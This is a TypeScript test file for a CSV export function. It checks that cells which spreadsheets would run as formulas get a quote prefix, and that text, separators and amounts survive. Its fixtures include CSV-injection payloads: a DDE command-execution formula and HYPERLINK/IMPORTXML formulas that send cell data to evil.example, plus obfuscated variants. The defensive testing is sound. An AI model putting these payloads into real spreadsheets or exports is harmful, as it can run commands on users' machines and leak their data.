import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { toCsv } from './csv.ts';

/** What a spreadsheet would run: formulas, commands, links, in all the ways in which one can begin. */
const formulas = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?d="&A1,"Invoice")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  '+220 700 1234',
  '-1+1',
  '-5',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\t',
  '\r',
];

/** What separates cells and lines, for one spreadsheet or another. */
const separators = [';', '\t', '\r', '\n', '\r\n', '; ', ';\u200b', ';\u0000'];

/** A table as RFC 4180 reads it, by rules of its own and not by those that wrote it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] ?? '';
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (character === '"' && cell === '') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      at += 1;
    } else cell += character;
  }
  assert.equal(quoted || cell !== '' || row.length > 0, false, 'the table ends with a whole line');
  return rows;
}

const beginsFormula = /^[\s\p{Cc}\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

function withoutQuotes(text: string): string {
  return text.replaceAll("'", '');
}

describe('a table for a spreadsheet', () => {
  test('has no cell that a spreadsheet reads as a formula, and loses no text', () => {
    const rows = readCsv(
      toCsv(
        ['title', 'after'],
        formulas.map((formula) => [formula, 'x']),
      ),
    );
    assert.equal(rows.length, formulas.length + 1);
    for (const [index, formula] of formulas.entries()) {
      const [cell, after] = rows[index + 1] ?? [];
      assert.ok(cell?.startsWith("'"), JSON.stringify(formula));
      assert.equal(withoutQuotes(cell ?? ''), withoutQuotes(formula));
      assert.equal(after, 'x', 'nothing of it gets into the next cell');
    }
  });

  test('has no such cell either for a spreadsheet that expects semicolons or tabs', () => {
    const texts = separators.flatMap((separator) => formulas.map((formula) => `Order 7${separator}${formula};1`));
    const rows = readCsv(
      toCsv(
        ['id', 'title'],
        texts.map((text) => ['x', text]),
      ),
    ).slice(1);
    assert.deepEqual(
      rows.map(([, title]) => withoutQuotes(title ?? '')),
      texts.map(withoutQuotes),
      'and loses no text',
    );
    const table = toCsv(
      ['id', 'title'],
      texts.map((text) => ['x', text]),
    );
    // The quote that begins a cell is in the middle of what these read, and there it is a character like any other.
    for (const cell of table.split(/[;\t\r\n]/)) assert.doesNotMatch(cell, beginsFormula, JSON.stringify(cell));
  });

  test('keeps amounts as numbers, also below zero', () => {
    const rows = readCsv(toCsv(['amount'], [[123_456n], [-500n], [-1n], [0n], [100n]]));
    assert.deepEqual(rows.flat(), ['amount', '1234.56', '-5.00', '-0.01', '0.00', '1.00']);
    for (const [cell] of rows.slice(1)) assert.match(cell ?? '', /^-?\d+\.\d\d$/);
  });

  test('keeps ordinary text as it is, whatever separators and quotes are in it', () => {
    const texts = [
      'Order 1042',
      'a,b',
      'a;b',
      'say "hello"',
      "it's",
      'two\r\nlines',
      'Aïssatou',
      '1-2',
      'a=b',
      ' padded ',
      '',
    ];
    assert.deepEqual(
      readCsv(
        toCsv(
          ['text'],
          texts.map((text) => [text]),
        ),
      ).slice(1),
      texts.map((text) => [text]),
    );
  });

  test('leaves the cell of a null empty', () => {
    assert.equal(toCsv(['a', 'b', 'c'], [[null, 'x', null]]), 'a,b,c\r\n,x,\r\n');
  });
});
